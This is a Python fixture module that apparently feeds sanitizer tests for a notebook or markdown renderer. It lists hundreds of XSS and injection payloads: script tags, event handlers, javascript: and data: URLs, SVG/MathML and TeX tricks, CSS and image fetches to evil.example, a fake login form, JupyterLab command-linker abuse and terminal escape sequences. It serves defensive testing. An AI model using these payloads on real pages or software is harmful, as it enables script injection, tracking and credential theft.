"""Payloads that must run nothing and fetch nothing, whatever shows them. `PAYLOADS` is (kind, text); the kinds name the trick."""

from __future__ import annotations

_SCRIPTS = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script >alert(1)</script >
<scr<script>ipt>alert(1)</scr</script>ipt>
<script\x20type="text/javascript">javascript:alert(1);</script>
<script/src=data:,alert(1)></script>
<script>/*<!--*/alert(1)//--></script>
</script><script>alert(1)</script>
<<script>alert(1);//<</script>
<script
>alert(1)</script
>
<svg><script>alert&#40;1&#41;</script></svg>
<noscript><p title="</noscript><script>alert(1)</script>">
<xmp><script>alert(1)</script></xmp>
<script type="module">import "//evil.example/m.js"</script>
<script type="text/plain" onload=alert(1)></script>
"""

_HANDLERS = (
    r"""
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"//
<IMG """
     '"""'
     r"""><SCRIPT>alert(1)</SCRIPT>">
<img/src=x/onerror=alert(1)>
<img src=`x`onerror=alert(1)>
<body onload=alert(1)>
<b onmouseover=alert(1)>x</b>
<div onclick="alert(1)">x</div>
<details open ontoggle=alert(1)>x</details>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)></textarea>
<video><source onerror=alert(1)></video>
<video src=x onerror=alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<marquee onstart=alert(1)>x</marquee>
<p onpointerenter=alert(1)>x</p>
<a onclick=alert(1) href="https://ok.example">x</a>
<object onerror=alert(1) data=x></object>
<div onanimationstart=alert(1) style="animation:x">x</div>
<span tabindex=1 onfocus=alert(1)>x</span>
<keygen autofocus onfocus=alert(1)>
<isindex type=image src=1 onerror=alert(1)>
<x onclick=alert(1)>x</x>
"""
)

_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "view-source:https://evil.example",
    "//evil.example/protocol-relative",
    "/api/contents?delete",
    "../tree",
    "?token",
    "#id",
    "intent://evil#Intent;end",
    "ws://evil.example",
]
_LINK_FORMS = ["[click]({})", "[click](<{}>)", '<a href="{}">click</a>', "[click][r]\n\n[r]: {}", "![image]({})"]

_SVG_MATH = r"""
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"/></svg>
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<svg><set attributeName=href to=javascript:alert(1)><a id=x>x</a></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math href="javascript:alert(1)"><mi>x</mi></math>
<svg><image href="https://evil.example/track.svg"/></svg>
"""

_STYLES = r"""
<style>*{background:url(//evil.example/x)}</style>
<style>@import url(//evil.example/x.css);</style>
<p style="background:url(//evil.example/x)">x</p>
<p style="width:expression(alert(1))">x</p>
<p style="position:fixed;inset:0;z-index:9999">overlay</p>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=prefetch href=//evil.example/x>
<div style="behavior:url(#x)">x</div>
<b style="-moz-binding:url(//evil.example/x)">x</b>
"""

_FETCHES = r"""
![pixel](https://evil.example/track.png)
![pixel](https://evil.example/track.png "title")
![pixel][r]

[r]: https://evil.example/track.png
<img src="https://evil.example/track.png">
<img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x">
<picture><source srcset=https://evil.example/x><img></picture>
<iframe src="https://evil.example"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<embed src="https://evil.example/x.swf">
<object data="https://evil.example/x"></object>
<video poster="https://evil.example/x"></video>
<audio src="https://evil.example/x" autoplay></audio>
<input type=image src="https://evil.example/x">
<table background="https://evil.example/x"><tr><td>x</td></tr></table>
<base href="https://evil.example/">
<meta http-equiv=refresh content="0;url=https://evil.example">
<track src="https://evil.example/x">
<bgsound src="https://evil.example/x">
<frameset><frame src="https://evil.example"></frameset>
<a ping="https://evil.example/x" href="https://ok.example">x</a>
"""

_FORMS = r"""
<form action="https://evil.example"><input name=p type=password><button>Log in</button></form>
<form><button formaction=javascript:alert(1)>x</button></form>
<button onclick=alert(1)>x</button>
<input type=submit formaction=//evil.example>
<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>
<dialog open><form method=dialog><button>x</button></form></dialog>
"""

_LAB = r"""
<button data-commandlinker-command="terminal:create-new" data-commandlinker-args="{}">run</button>
<a data-commandlinker-command="notebook:run-all-cells" href="https://ok.example">x</a>
<div id="jp-main-dock-panel">clobber</div>
<a name="Jupyter" id="Jupyter">clobber</a>
<form id=document name=cookie></form>
<span class="jp-Toolbar mlxnb-run">x</span>
<p is="x-evil" slot="x" part="y" contenteditable>x</p>
<template shadowrootmode=open><script>alert(1)</script></template>
<portal src="https://evil.example"></portal>
"""

_MARKDOWN = r"""
[a](https://ok.example "x\" onmouseover=\"alert(1)")
[a](https://ok.example 'x" onmouseover="alert(1)')
[a](https://ok.example"onmouseover="alert(1))
[<img src=x onerror=alert(1)>](https://ok.example)
![<img src=x onerror=alert(1)>](x)
![](javascript:alert(1))
<javascript:alert(1)>
<https://ok.example/"onmouseover="alert(1)>
```"><script>alert(1)</script>
code
```
```language-x" onclick="alert(1)
code
```
`<script>alert(1)</script>`
    <script>alert(1)</script>
| <script>alert(1)</script> | [x](javascript:alert(1)) |
|---|---|
| <img src=x onerror=alert(1)> | ![p](//evil.example) |
# <img src=x onerror=alert(1)>
> <svg onload=alert(1)>
- [x](data:text/html,<script>alert(1)</script>)
*<b onclick=alert(1)>*x*</b>*
[x]: javascript:alert(1)
1. <iframe srcdoc="x">
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
\<script\>alert(1)\</script\>
<!--><script>alert(1)</script>-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
~~<script>alert(1)</script>~~
"""

_TEX = r"""
$\href{javascript:alert(1)}{x}$
$$\href{javascript:alert(1)}{x}$$
\(\href{javascript:alert(1)}{x}\)
\[\href{javascript:alert(1)}{x}\]
$\url{javascript:alert(1)}$
$\require{html}\style{background:url(//evil.example)}{x}$
$\class{jp-Toolbar}{x}$
$\cssId{document}{x}$
$\data{commandlinker-command=x}{y}$
$\bbox[background:url(//evil.example)]{x}$
$\mmlToken{mi}[href="javascript:alert(1)"]{x}$
$\unicode[x;background:url(//evil.example)]{65}$
$\def\x{\href}\x{javascript:alert(1)}{y}$
$\let\x=\href \x{javascript:alert(1)}{y}$
$\csname href\endcsname{javascript:alert(1)}{x}$
$\newcommand{\x}{\href}\x{javascript:alert(1)}{y}$
$\text{$\href{javascript:alert(1)}{x}$}$
$<img src=x onerror=alert(1)>$
$$ </span><script>alert(1)</script> $$
$\hr&#101;f{javascript:alert(1)}{x}$
\\(\\href{javascript:alert(1)}{x}\\)
\begin{equation}\href{javascript:alert(1)}{x}\end{equation}
$a$ \href{javascript:alert(1)}{x} $b$
\( { \) \href{javascript:alert(1)}{y} } \(z\)
$x$ \hr![ef{javascript:alert(1)}{x}](y) $z$
&#36;&#92;href{javascript:alert(1)}{x}&#36;
$\colorbox{url(//evil.example)}{x}$
**$**\href{javascript:alert(1)}{x}**$**
$a
\href{javascript:alert(1)}{x}
b$
$\text{<img src=x onerror=alert(1)>}$
$$\begin{array}{c}\href{javascript:alert(1)}{x}\\\includegraphics{https://evil.example/x.png}\end{array}$$
\[\htmlData{onclick=alert(1)}{\htmlStyle{background:url(//evil.example)}{\htmlId{document}{\htmlClass{jp-Toolbar}{x}}}}\]
$\texttip{x}{<script>alert(1)</script>}\toggle{a}{b}\endtoggle$
$</math><img src=x onerror=alert(1)>$
$$</annotation-xml></math><svg onload=alert(1)>$$
$\mathchoice{<img src=https://evil.example/x>}{a}{b}{c}\hspace{-900em}\raisebox{900em}{x}$
"""

_TERMINAL = [
    "\x1b[2J\x1b[1;1Hcleared",
    "\x1b]0;title\x07",
    "\x1b]8;;javascript:alert(1)\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x9b31mred",
    "\x90payload\x9c",
    "over\rwritten",
    "back\x08\x08\x08\x08space",
    "\u202egnp.exe",
    "\u2066isolate\u2069",
    "nul\x00byte",
    "lone \ud800 surrogate",
    "\ufeffbom\u2028line\u2029paragraph",
    "\U000e0041tag",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img src=x one\x00rror=alert(1)>",
    "\ud83d<script>alert(1)</script>",
]


def _lines(kind: str, block: str) -> list[tuple[str, str]]:
    """One payload per line; a line that continues the one above stands after it, so a payload is also tried whole."""
    lines = [line for line in block.strip("\n").split("\n") if line.strip()]
    return [(kind, line) for line in lines] + [(f"{kind} together", block)]


PAYLOADS: list[tuple[str, str]] = [
    *_lines("script", _SCRIPTS),
    *_lines("handler", _HANDLERS),
    *(("url", form.format(url)) for form in _LINK_FORMS for url in _URLS),
    *_lines("svg or math", _SVG_MATH),
    *_lines("style", _STYLES),
    *_lines("fetch", _FETCHES),
    *_lines("form", _FORMS),
    *_lines("jupyterlab", _LAB),
    *_lines("markdown", _MARKDOWN),
    *_lines("tex", _TEX),
    *(("terminal", text) for text in _TERMINAL),
]
